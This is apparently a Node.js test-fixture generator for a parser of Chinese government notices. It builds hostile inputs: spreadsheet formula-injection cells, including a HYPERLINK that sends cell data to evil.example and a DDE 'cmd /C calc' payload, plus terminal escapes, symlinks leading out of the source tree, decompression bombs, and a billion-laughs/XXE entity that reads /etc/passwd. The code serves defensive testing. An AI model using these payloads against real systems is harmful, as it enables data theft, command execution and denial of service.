#!/usr/bin/env node
// Crafted hostile inputs for the tests of issue 12 (test/hostile-*.test.ts), made at test time so
// no large blob is committed. Each generator returns the bytes (or writes a tree); run as a
// script, every input is written to a folder for trying them by hand:
//
//   node scripts/make-hostile.mjs /tmp/hostile && kexie parse /tmp/hostile/csv-injection.txt --to csv
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { constants, deflateRawSync } from "node:zlib";

/** A notice whose task table holds cells a spreadsheet would run as formulas. */
export function csvInjectionNotice() {
  return [
    "=HYPERLINK(\"http://evil.example/\",\"关于印发重点任务分工的通知\")",
    "",
    "各部门：",
    "",
    "现将重点任务分工印发给你们。",
    "",
    "一、@工作要求",
    "",
    "-各部门要按时完成。",
    "",
    "二、分工",
    "",
    "序号\t工作任务\t牵头单位\t完成时限",
    "1\t=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")\t@SUM(1+1)*cmd\t年底前",
    "2\t+1+cmd|' /C calc'!A0\t-2+3\t6月底",
    "",
    "=cmd|' /C calc'!A0",
    "2024年1月2日",
    "",
  ].join("\n");
}

/** The formula-like cells csvInjectionNotice() puts in its task table. */
export const CSV_INJECTION_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0", "-2+3"];

/** Escape sequences that clear the screen, recolour and retitle a terminal, plus a C1 CSI. */
export const ESC_SEQUENCES = "\x1b[2J\x1b[31m\x1b]0;pwned\x07\x9b1m";

/**
 * A government page whose info-disclosure metadata carries terminal escapes: its 成文日期
 * disagrees with the signature, so the metadata value is quoted in a warning.
 */
export function escapeMetadataPage() {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>通知</title></head><body>
<table class="meta"><tr><td>索引号：</td><td>0001-2019-00001</td><td>发文机关：</td><td>某某市科学技术协会</td></tr>
<tr><td>成文日期：</td><td>2019年5月4日${ESC_SEQUENCES}</td><td>发文字号：</td><td>某科协〔2019〕1号</td></tr></table>
<div class="article"><h1>关于开展科普活动的通知</h1>
<p>各县区科协：</p>
<p>现将有关事项通知如下。</p>
<p>一、活动时间</p><p>全年。</p>
<p style="text-align:right">某某市科学技术协会</p>
<p style="text-align:right">2019年6月1日</p></div></body></html>
`;
}

/** A short real notice, for trees whose point is their names and links. */
export function plainNotice(title = "关于做好年度工作的通知") {
  return `${title}\n\n各部门：\n\n一、总体要求\n\n按时完成。\n\n某某局\n2024年1月2日\n`;
}

/**
 * A source tree with links out of it and names that merely start with dots:
 *   outside/secret.txt, outside/dir/inner.txt     the files a link must not reach
 *   src/a.txt                                      a notice
 *   src/link.txt → ../outside/secret.txt           relative link out of src
 *   src/abs.txt → <abs>/outside/secret.txt         absolute link out of src
 *   src/linked-dir → <abs>/outside/dir             a linked folder out of src
 *   src/inside-link.txt → a.txt                    a link that stays inside: followed
 *   src/..evil..txt, src/...three.txt              dots, but not dot-files: converted
 *   src/.hidden.txt, src/.git/config.txt           dot-files: skipped without a word
 * Returns { src, outside }.
 */
export function symlinkTree(root) {
  const src = path.join(root, "src");
  const outside = path.join(root, "outside");
  mkdirSync(path.join(outside, "dir"), { recursive: true });
  mkdirSync(path.join(src, ".git"), { recursive: true });
  writeFileSync(path.join(outside, "secret.txt"), plainNotice("关于绝密事项的通知"));
  writeFileSync(path.join(outside, "dir", "inner.txt"), plainNotice("关于外部目录的通知"));
  writeFileSync(path.join(src, "a.txt"), plainNotice());
  symlinkSync("../outside/secret.txt", path.join(src, "link.txt"));
  symlinkSync(path.join(outside, "secret.txt"), path.join(src, "abs.txt"));
  symlinkSync(path.join(outside, "dir"), path.join(src, "linked-dir"), "dir");
  symlinkSync("a.txt", path.join(src, "inside-link.txt"));
  writeFileSync(path.join(src, "..evil..txt"), plainNotice("关于点号文件名的通知"));
  writeFileSync(path.join(src, "...three.txt"), plainNotice("关于三个点的通知"));
  writeFileSync(path.join(src, ".hidden.txt"), plainNotice("关于隐藏文件的通知"));
  writeFileSync(path.join(src, ".git", "config.txt"), plainNotice("关于版本库的通知"));
  return { src, outside };
}

// ---- inputs that were quadratic (or worse) in their size -----------------------------------

/**
 * Pathological inputs of size n, each { text, ext }: a test times n and 4n. The notice is the
 * repeated-notice case (the 5 MB / 20 MB of the issue) scaled by n.
 */
export const PATHOLOGICAL = {
  "a run of closing brackets": (n) => ({ text: `关于印发的通知\n\n${"）".repeat(n)}`, ext: "txt" }),
  "opening brackets, then as many closing": (n) => ({ text: "（".repeat(n) + "）".repeat(n), ext: "txt" }),
  "unbalanced brackets and boundaries on one line": (n) => ({ text: "（各部门：".repeat(n), ext: "txt" }),
  "run-in items after closing brackets": (n) => ({ text: "工作。）”一是".repeat(n), ext: "txt" }),
  "Markdown block quotes": (n) => ({ text: `${">".repeat(n * 10)} 通知`, ext: "md" }),
  "Markdown nested lists": (n) => ({ text: `${"- ".repeat(n * 10)}通知`, ext: "md" }),
  "HTML nested elements": (n) => ({ text: `<html><body>${"<div>".repeat(n * 10)}通知`, ext: "html" }),
  "HTML unclosed <div><span>": (n) => ({ text: `<html><body>${"<div><span>".repeat(n * 5)}通知`, ext: "html" }),
  "a line of leader dots ending in a number too long for a page": (n) => ({ text: `关于印发的通知\n\n总则${"…".repeat(n * 10)}1234\n总则${"…".repeat(n * 10)}1234`, ext: "txt" }),
  "contents entries with leader dots, line after line": (n) => ({ text: `关于印发的通知\n\n${"1.1编制目的…………6\n".repeat(n)}`, ext: "txt" }),
  "a chapter's heading, then a long run of spaces before its article": (n) => ({ text: `关于印发的通知\n\n第一章 总则${" ".repeat(n * 10)}x第一条 为了\n第一章${" ".repeat(n * 10)}第一条`, ext: "txt" }),
  "spaces a charset lost, line after line (??, ????????, ?)": (n) => ({ text: `关于印发的通知\n${"??第一章?总?则????????\n".repeat(n)}`, ext: "txt" }),
  "a table's row of many single-spaced words under a spaced header": (n) => ({ text: `序号 工作任务 牵头单位\n1 ${"词 ".repeat(n)}市财政局\n2 任务 市局\n3 任务 市局`, ext: "txt" }),
  "column names and values one a line, record after record": (n) => ({ text: "具体任务\n全面落实。\n责任单位\n卫健局\n完成时限\n1月底\n".repeat(Math.ceil(n / 10)), ext: "txt" }),
  "short lines that name columns, each above a long line": (n) => ({ text: "责任单位\n这是一段很长的正文内容。\n".repeat(Math.ceil(n / 10)), ext: "txt" }),
};

// ---- ZIP packages ---------------------------------------------------------------------------

/**
 * A ZIP archive written by hand, so an entry can be a deflate stream far larger once inflated
 * than it is here. entries: [{ name, data }] (stored) or [{ name, deflated, size }] (method 8,
 * `size` the inflated size it declares). CRCs are left 0: readers that stream never get there.
 */
export function zipArchive(entries) {
  const locals = [];
  const central = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const body = e.deflated ?? e.data ?? Buffer.alloc(0);
    const method = e.deflated ? 8 : 0;
    const size = e.deflated ? e.size : body.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(Math.min(size, 0xffffffff), 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(0x0800, 8);
    dir.writeUInt16LE(method, 10);
    dir.writeUInt32LE(body.length, 20);
    dir.writeUInt32LE(Math.min(size, 0xffffffff), 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    central.push(dir, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/**
 * A raw deflate stream of `head`, then `piece` repeated `times`, then `tail` — built by
 * compressing `piece` once (sync-flushed, so it ends on a byte boundary) and repeating its
 * compressed form: gigabytes of output from a few MB, made in milliseconds.
 */
export function repeatedDeflate(head, piece, times, tail) {
  const flush = { finishFlush: constants.Z_SYNC_FLUSH };
  const parts = [deflateRawSync(Buffer.from(head), flush)];
  const one = deflateRawSync(Buffer.from(piece), flush);
  for (let i = 0; i < times; i++) parts.push(one);
  parts.push(deflateRawSync(Buffer.from(tail)));
  return { deflated: Buffer.concat(parts), size: Buffer.byteLength(head) + Buffer.byteLength(piece) * times + Buffer.byteLength(tail) };
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const PARA = (k) => `<w:p><w:r><w:t>第${k}段：各部门要按照职责分工，认真抓好落实，确保各项任务按时完成。</w:t></w:r></w:p>`;

/** `count` paragraphs of a notice as WordprocessingML, about `bytes` long. */
function paragraphs(bytes) {
  const out = [];
  let size = 0;
  for (let k = 1; size < bytes; k++) {
    const p = PARA(k);
    out.push(p);
    size += Buffer.byteLength(p);
  }
  return out.join("");
}

/**
 * A .docx whose word/document.xml inflates to `expandTo` bytes of paragraphs: by default 3 GiB of
 * one paragraph repeated, from about 3 MB; with `varied`, numbered paragraphs (less compressible:
 * 400 MB come from about 10 MB), the kind that made V8 run out of memory.
 */
export function docxBomb(expandTo = 3 * 1024 ** 3, varied = false) {
  const piece = varied ? paragraphs(1024 * 1024) : PARA(1).repeat(Math.ceil((1024 * 1024) / Buffer.byteLength(PARA(1))));
  const times = Math.ceil(expandTo / Buffer.byteLength(piece));
  const xml = repeatedDeflate(`<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body>`, piece, times, "</w:body></w:document>");
  return zipArchive([
    { name: "[Content_Types].xml", data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') },
    { name: "word/document.xml", ...xml },
  ]);
}

/** An .ofd whose page content inflates to `expandTo` bytes. */
export function ofdBomb(expandTo = 3 * 1024 ** 3) {
  const piece = '<ofd:TextObject ID="1" Boundary="0 0 100 10" Font="1" Size="3"><ofd:TextCode X="0" Y="3">各部门要认真抓好落实。</ofd:TextCode></ofd:TextObject>'.repeat(4096);
  const times = Math.ceil(expandTo / Buffer.byteLength(piece));
  const content = repeatedDeflate('<?xml version="1.0"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer>', piece, times, "</ofd:Layer></ofd:Content></ofd:Page>");
  return zipArchive([
    { name: "OFD.xml", data: Buffer.from('<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>') },
    { name: "Doc_0/Pages/Page_0/Content.xml", ...content },
    { name: "Doc_0/Document.xml", data: Buffer.from('<?xml version="1.0"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>') },
  ]);
}

/** A .docx with `count` empty entries beside a tiny valid document: too many entries. */
export function docxManyEntries(count = 100_000) {
  const doc = `<?xml version="1.0"?><w:document ${W}><w:body>${PARA(1)}</w:body></w:document>`;
  const entries = [{ name: "word/document.xml", data: Buffer.from(doc) }];
  for (let i = 0; i < count; i++) entries.push({ name: `word/media/e${i}.bin`, data: Buffer.alloc(0) });
  return zipArchive(entries);
}

/** A small, honest .docx of `bytes` of paragraphs, stored through the same writer. */
export function docxOf(bytes) {
  const doc = `<?xml version="1.0"?><w:document ${W}><w:body>${paragraphs(bytes)}</w:body></w:document>`;
  return zipArchive([{ name: "word/document.xml", deflated: deflateRawSync(Buffer.from(doc)), size: Buffer.byteLength(doc) }]);
}

/** A .docx whose document.xml is `body` (the inside of w:body), stored as written. */
export function docxWithBody(body, prolog = "") {
  const doc = `<?xml version="1.0" encoding="UTF-8"?>${prolog}<w:document ${W}><w:body>${body}</w:body></w:document>`;
  return zipArchive([{ name: "word/document.xml", data: Buffer.from(doc) }]);
}

/**
 * "Billion laughs" and XXE in one .docx: a DTD declaring entities that would expand to 10^9
 * "lol"s and read /etc/passwd, used in the text beside an ordinary paragraph.
 */
export function docxEntities() {
  const lols = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) lols.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  const dtd = `<!DOCTYPE w:document [${lols.join("")}<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;
  return docxWithBody(`${PARA(1)}<w:p><w:r><w:t>笑&lol9;声</w:t></w:r></w:p><w:p><w:r><w:t>密&xxe;码</w:t></w:r></w:p>`, dtd);
}

/** A .docx whose paragraph sits inside `depth` nested content controls. */
export function docxNested(depth) {
  return docxWithBody(`${"<w:sdt><w:sdtContent>".repeat(depth)}${PARA(1)}${"</w:sdtContent></w:sdt>".repeat(depth)}`);
}

/** An .ofd whose one text object sits inside `depth` nested page blocks. */
export function ofdNested(depth) {
  const text = '<ofd:TextObject ID="1" Boundary="20 20 170 10" Font="1" Size="5"><ofd:TextCode X="0" Y="5">各部门要认真抓好落实。</ofd:TextCode></ofd:TextObject>';
  const ns = 'xmlns:ofd="http://www.ofdspec.org/2016"';
  return zipArchive([
    { name: "OFD.xml", data: Buffer.from(`<?xml version="1.0"?><ofd:OFD ${ns}><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>`) },
    { name: "Doc_0/Document.xml", data: Buffer.from(`<?xml version="1.0"?><ofd:Document ${ns}><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>`) },
    { name: "Doc_0/Pages/Page_0/Content.xml", data: Buffer.from(`<?xml version="1.0"?><ofd:Page ${ns}><ofd:Content><ofd:Layer ID="2">${"<ofd:PageBlock>".repeat(depth)}${text}${"</ofd:PageBlock>".repeat(depth)}</ofd:Layer></ofd:Content></ofd:Page>`) },
  ]);
}

/** A real notice (a fixture) repeated to about `bytes`: big, ordinary, slow to parse. */
export function repeatedNotice(bytes) {
  const notice = readFileSync(path.join(path.dirname(fileURLToPath(import.meta.url)), "../fixtures/seed-yangzhou-2019-work-points.txt"), "utf8");
  return notice.repeat(Math.ceil(bytes / Buffer.byteLength(notice)));
}

/** Write every crafted input into `dir`. */
export function writeAll(dir) {
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, "csv-injection.txt"), csvInjectionNotice());
  writeFileSync(path.join(dir, "escape-metadata.html"), escapeMetadataPage());
  symlinkTree(path.join(dir, "symlinks"));
  writeFileSync(path.join(dir, "bomb-3gib.docx"), docxBomb());
  writeFileSync(path.join(dir, "bomb-400mb-paragraphs.docx"), docxBomb(400 * 1024 ** 2, true));
  writeFileSync(path.join(dir, "bomb.ofd"), ofdBomb());
  writeFileSync(path.join(dir, "many-entries.docx"), docxManyEntries());
  writeFileSync(path.join(dir, "billion-laughs-xxe.docx"), docxEntities());
  writeFileSync(path.join(dir, "nested-100000.docx"), docxNested(100_000));
  writeFileSync(path.join(dir, "nested-100000.ofd"), ofdNested(100_000));
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const dir = process.argv[2];
  if (!dir) {
    process.stderr.write("usage: node scripts/make-hostile.mjs OUTDIR\n");
    process.exit(2);
  }
  writeAll(dir);
}
